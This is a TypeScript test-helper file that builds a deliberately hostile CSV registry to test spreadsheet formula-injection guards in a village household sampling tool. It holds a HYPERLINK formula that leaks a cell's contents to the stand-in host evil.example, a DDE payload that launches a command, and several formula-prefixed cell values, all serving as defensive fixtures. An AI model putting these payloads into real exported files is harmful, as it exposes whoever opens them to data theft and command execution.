/**
 * Helpers shared by estimate/excel.test.ts, monthly/excel-formulas.test.ts and verify/excel-before-guard.test.ts
 * (moved from test/safety-formulas.test.ts, issue 14).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Manifest } from '../../src/core/manifest.js';
import { DEMO } from '../helpers.js';

// ---------------------------------------------------------------------------------------------

export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此核实")';
export const HOSTILE_HEADER = "=cmd|' /C calc'!A0";

/** The demo registry with formula values: village 弥鹤村 renamed, its households' IDs, names and an extra column hostile. */
export function hostileRegistry(dir: string): string {
  const lines = readFileSync(DEMO, 'utf8')
    .replace(/^\uFEFF/, '')
    .split(/\r?\n/)
    .filter((line) => line !== '');
  const [header, ...rows] = lines.map((line) => line.split(','));
  const column = (name: string) => header!.indexOf(name);
  const quote = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
  const out = [[...header!, HOSTILE_HEADER]];
  for (const row of rows) {
    const cells = [...row, '-2+3+cmd'];
    if (cells[column('行政村')] === '弥鹤村') {
      cells[column('行政村')] = '@弥鹤村';
      cells[column('户编号')] = `=${cells[column('户编号')]}`;
      cells[column('人编号')] = `=${cells[column('人编号')]}`;
      cells[column('姓名')] = HYPERLINK;
      cells[column('自然村')] = "'新光村";
    }
    out.push(cells);
  }
  const path = join(dir, 'registry.csv');
  writeFileSync(path, `${out.map((cells) => cells.map(quote).join(',')).join('\n')}\n`);
  return path;
}

export const DRAW = (registry: string, seed = 'formula-guard') => [
  'monthly',
  registry,
  '--month',
  '2026-11',
  '--seed',
  seed,
  '--level',
  'county',
  '--scope',
  '峨山彝族自治县',
  '--villages',
  '200',
  '--households',
  '3',
  '--village-frame',
  'all',
];

export const readCsv = (path: string): string[][] =>
  parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: false }) as string[][];
export const manifestOf = (dir: string): Manifest & { parameters: Record<string, unknown> } =>
  JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
